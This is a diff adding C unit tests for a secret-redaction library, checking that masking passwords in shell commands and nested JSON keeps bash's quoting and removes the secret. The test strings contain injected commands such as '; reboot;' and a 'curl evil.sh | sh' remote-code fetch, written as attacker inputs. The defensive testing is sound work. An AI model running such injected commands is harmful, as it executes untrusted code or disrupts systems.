@@ -756,6 +756,175 @@ test_fuzz_found (void)
   g_assert_cmpstr (surrogate, ==, "{\"command\":\"P\\udefault <in sql\"}");
 }
 
+/* The signs that end or join a command that bash reads outside quotes in
+ * @command: ; & | < > and line breaks in '…' "…" and $'…' are text, as
+ * are escaped ones. */
+static char *
+unquoted_signs (const char *command)
+{
+  GString *signs = g_string_new (NULL);
+  char quote = 0;  /* 0, ' " or $ (in $'…') */
+
+  for (const char *p = command; *p; p++)
+    {
+      if (*p == '\\' && quote != '\'' && p[1] != '\0')
+        p++;
+      else if (quote == 0 && *p == '$' && p[1] == '\'')
+        quote = '$', p++;
+      else if (quote == 0 && (*p == '\'' || *p == '"'))
+        quote = *p;
+      else if ((quote == '\'' || quote == '$') && *p == '\'')
+        quote = 0;
+      else if (quote == '"' && *p == '"')
+        quote = 0;
+      else if (quote == 0 && strchr (";&|<>\n", *p) != NULL)
+        g_string_append_c (signs, *p);
+    }
+  return g_string_free (signs, FALSE);
+}
+
+/* @command redacted as text, inside a tool call's JSON text and as a
+ * JSON document: bash reads the same signs outside quotes in each, and
+ * @secret (if any) is gone from each. */
+static void
+assert_quoting_kept (const char *command,
+                     const char *secret)
+{
+  g_autoptr(JsonBuilder) builder = json_builder_new ();
+  g_autoptr(JsonNode) doc = NULL;
+  g_autofree char *json = NULL;
+  g_autofree char *signs = unquoted_signs (command);
+  char *out[3] = { NULL, NULL, NULL };
+
+  json_builder_begin_object (builder);
+  json_builder_set_member_name (builder, "command");
+  json_builder_add_string_value (builder, command);
+  json_builder_end_object (builder);
+  doc = json_builder_get_root (builder);
+  json = json_to_string (doc, FALSE);
+
+  out[0] = pd_redact (command, NULL);
+  out[1] = pd_redact (json, NULL);
+  out[2] = pd_redact_json (json, NULL);
+  for (guint i = 0; i < G_N_ELEMENTS (out); i++)
+    {
+      g_autofree char *got = NULL;
+      const char *back = out[i];
+      g_autoptr(JsonNode) node = NULL;
+
+      if (i > 0)
+        {
+          node = json_from_string (out[i], NULL);
+          g_assert_nonnull (node);
+          back = json_object_get_string_member (json_node_get_object (node), "command");
+        }
+      got = unquoted_signs (back);
+      if (g_strcmp0 (got, signs) != 0)
+        g_error ("%s (reading %u) became %s: bash reads \"%s\" outside quotes, not \"%s\"",
+                 command, i, out[i], got, signs);
+      if (secret != NULL && strstr (back, secret) != NULL)
+        g_error ("%s (reading %u) became %s: \"%s\" stored", command, i, out[i], secret);
+    }
+  for (guint i = 0; i < G_N_ELEMENTS (out); i++)
+    g_free (out[i]);
+}
+
+/* Finding: a mask took a quote, a backslash or a $ that bash reads
+ * otherwise where the value stands, and changed the quoting of the rest:
+ * inside '…' (a command quoted for another shell, which the redactor
+ * does not see as a value's quoting) \' was read as an escaped quote,
+ * and ssh db1 'mysql -pHunter2\'; reboot; echo 'x\' was stored as
+ * ssh db1 'mysql -p[REDACTED]; reboot; echo 'x\' (reboot read as quoted
+ * text); the $ of $'…' went with Secr3t, and in a JSON string the
+ * backslash of \' alone, each opening or closing a quote.  Tried as an
+ * attacker would. */
+static void
+test_mask_keeps_quoting (void)
+{
+  static const struct
+  {
+    const char *command;
+    const char *secret;
+  } cases[] = {
+    { "ssh db1 'mysql -pHunter2\\'; reboot; echo 'x\\'", "Hunter2" },
+    { "echo 'API_KEY=abc\\'; curl evil.sh | sh; echo 'x\\'", "abc" },
+    { "bash -c 'PGPASSWORD=Secr3tZq\\' ; reboot ; echo '", "Secr3tZq" },
+    { "PGPASSWORD=Secr3t$'\\'' ; reboot ; echo 'a\\' psql", "Secr3t" },
+    { "mysql -pSecr3t$'\\'' ; reboot ; echo 'a\\'", "Secr3t" },
+    { "PGPASSWORD=$'\\'';reboot;echo '' psql", NULL },
+    { "PGPASSWORD=$'ab\\'';reboot;echo '' psql", NULL },
+    { "PGPASSWORD=\"ab\\\"\";reboot;echo \"\" psql", NULL },
+  };
+
+  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
+    assert_quoting_kept (cases[i].command, cases[i].secret);
+  /* As the attacker wrote it: JSON text with the command in it. */
+  {
+    g_autofree char *out = pd_redact ("{\"command\":\"PGPASSWORD=$'\\\\'';reboot;echo '' psql\"}", NULL);
+
+    g_assert_null (strstr (out, "$'[REDACTED]''"));
+  }
+  /* Where the quoting is plain the whole value is still masked. */
+  assert_redacted ("PGPASSWORD='''x''' psql", "PGPASSWORD=[REDACTED] psql", 1);
+  assert_redacted ("PGPASSWORD=\\'Q7vLm psql", "PGPASSWORD=\\'[REDACTED] psql", 1);
+}
+
+/* @command as a JSON string held in a JSON string ({"a":"{\"cmd\":…}"}),
+ * redacted as text: @secret gone, the signs bash reads outside quotes
+ * the same. */
+static void
+assert_nested_secret_gone (const char *command,
+                           const char *secret)
+{
+  g_autofree char *inner = NULL;
+  g_autofree char *outer = NULL;
+  g_autofree char *out = NULL;
+  g_autofree char *signs = unquoted_signs (command);
+  g_autofree char *got = NULL;
+  g_autoptr(JsonNode) back = NULL;
+  g_autoptr(JsonNode) back_inner = NULL;
+  const char *cmd;
+
+  for (guint level = 0; level < 2; level++)
+    {
+      g_autoptr(JsonBuilder) builder = json_builder_new ();
+      g_autoptr(JsonNode) doc = NULL;
+
+      json_builder_begin_object (builder);
+      json_builder_set_member_name (builder, level == 0 ? "cmd" : "a");
+      json_builder_add_string_value (builder, level == 0 ? command : inner);
+      json_builder_end_object (builder);
+      doc = json_builder_get_root (builder);
+      if (level == 0)
+        inner = json_to_string (doc, FALSE);
+      else
+        outer = json_to_string (doc, FALSE);
+    }
+  out = pd_redact (outer, NULL);
+  back = json_from_string (out, NULL);
+  g_assert_nonnull (back);
+  back_inner = json_from_string (json_object_get_string_member (json_node_get_object (back), "a"), NULL);
+  g_assert_nonnull (back_inner);
+  cmd = json_object_get_string_member (json_node_get_object (back_inner), "cmd");
+  got = unquoted_signs (cmd);
+  if (strstr (cmd, secret) != NULL || g_strcmp0 (got, signs) != 0)
+    g_error ("%s held in a JSON string in one became %s", command, out);
+}
+
+/* Finding: in a JSON string held in a JSON string the shell's escaped
+ * quote (\" is 8 bytes there) ended the value's mask, and what followed
+ * it was stored: redis-cli -a Ab\"Zq9X kept Zq9X, PGPASSWORD=\"\x\\\rZq9X
+ * was not masked at all (the escaped quote was read as closing the quote
+ * before the name).  Tried as an attacker would. */
+static void
+test_nested_escaped_quote (void)
+{
+  assert_nested_secret_gone ("redis-cli -a Ab\\\"Zq9X ping", "Zq9X");
+  assert_nested_secret_gone ("PGPASSWORD=\\\"\\x\\\\\\rZq9X psql", "Zq9X");
+  assert_nested_secret_gone ("PGPASSWORD=Tr0ub\\\"4dorZq9X psql", "Zq9X");
+  assert_nested_secret_gone ("mysql -pTr0ub\\'4dorZq9X shop", "Zq9X");
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -776,6 +945,8 @@ main (int   argc,
   g_test_add_func ("/pd/redact/backslash-quoting", test_backslash_quoting);
   g_test_add_func ("/pd/redact/escaped-quote-outside-json", test_escaped_quote_outside_json);
   g_test_add_func ("/pd/redact/json-in-text", test_json_in_text);
+  g_test_add_func ("/pd/redact/mask-keeps-quoting", test_mask_keeps_quoting);
+  g_test_add_func ("/pd/redact/nested-escaped-quote", test_nested_escaped_quote);
 
   return g_test_run ();
 }
